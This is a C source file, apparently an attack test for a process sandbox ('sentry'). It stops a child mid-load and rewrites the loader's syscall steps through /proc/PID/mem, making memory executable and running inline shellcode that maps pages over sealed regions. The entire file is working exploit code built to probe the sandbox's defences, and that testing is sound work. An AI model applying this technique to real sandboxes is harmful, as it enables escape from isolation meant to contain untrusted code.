// A process that executes a program is stopped while the sentry's loader works in its new memory, and another writes there by
// /proc/PID/mem: the loader's steps become the guest's, and pages of its own come to lie where the sealed ones belong.
// Seconds: 3
#include "hostile.h"

extern const char code_start[], code_end[];
/// Puts a page at the sealed pages' place and makes a child, which then has it in their stead.
asm(".pushsection .text\n"
    "code_start:\n"
    "mov $9, %eax\n mov $0x7dff00000000, %rdi\n mov $4096, %esi\n mov $3, %edx\n mov $0x32, %r10d\n mov $-1, %r8\n"
    "xor %r9d, %r9d\n syscall\n"
    "mov $0x7dff00000000, %rbx\n cmp %rbx, %rax\n jne 1f\n"
    "mov $57, %eax\n syscall\n test %eax, %eax\n jnz 1f\n"
    "mov $1, %eax\n mov $1, %edi\n lea 2f(%rip), %rsi\n mov $44, %edx\n syscall\n"
    "1: mov $231, %eax\n xor %edi, %edi\n syscall\n"
    "2: .ascii \"SUCCEEDED: has pages for the sentry's sealed\\n\"\n"
    "code_end:\n"
    ".popsection");

static void nothing(int argc, char **argv) {}
void prepare(void) { again = nothing; }

/// A step of the loader: a call, or the jump at the end.
struct step { unsigned long kind, words[7]; };
enum { STEPS = 128 };

/// Where the loader's steps are in the stack of a process that has nothing but the loader, and 0 where there are none.
static unsigned long find_steps(pid_t pid, int memory) {
    static struct step stack[4096];
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    if (!maps) return 0;
    unsigned long start = 0, end = 0;
    int lines = 0;
    while (fgets(line, sizeof line, maps)) {
        lines++;
        if (strstr(line, "[stack]")) sscanf(line, "%lx-%lx", &start, &end);
    }
    fclose(maps);
    if (!start || lines > 12) return 0;
    ssize_t got = pread(memory, stack, sizeof stack, start);
    for (long i = 0; i < got / (long)sizeof *stack; i++) {
        if (stack[i].kind == 0 && stack[i].words[0] == SYS_mmap && stack[i].words[1] == 0x7dff00000000)
            return start + i * sizeof *stack;
    }
    return 0;
}

static void replace_steps(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    unsigned long at = memory < 0 ? 0 : find_steps(pid, memory);
    if (at) {
        static struct step steps[256];
        for (int i = 0; i < STEPS; i++)
            steps[i] = (struct step){0, {SYS_mprotect, at & ~4095ul, 24576, PROT_READ | PROT_WRITE | PROT_EXEC}};
        steps[STEPS] = (struct step){2, {at, at + (STEPS + 1) * sizeof *steps}};
        memcpy(&steps[STEPS + 1], code_start, code_end - code_start);
        size_t size = (STEPS + 1) * sizeof *steps + (code_end - code_start);
        // Once all is mapped and sealed, a program of one's own may be written to: what counts is what comes of it.
        pwrite(memory, steps, size, at);
    }
    if (memory >= 0) close(memory);
}

static void attack(void) {
    while (left() > 0) {
        pid_t pid = fork();
        if (pid == 0) execl("/proc/self/exe", "loading-memory", "again", NULL);
        for (volatile long i = random_word() % 60000; i > 0; i--) {}
        int status;
        for (int i = 0; i < 40; i++) {
            kill(pid, SIGSTOP);
            if (waitpid(pid, &status, WUNTRACED) == pid && !WIFSTOPPED(status)) goto gone;
            replace_steps(pid);
            kill(pid, SIGCONT);
            for (volatile long k = random_word() % 1000; k > 0; k--) {}
        }
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
    gone:
        round_done();
    }
}
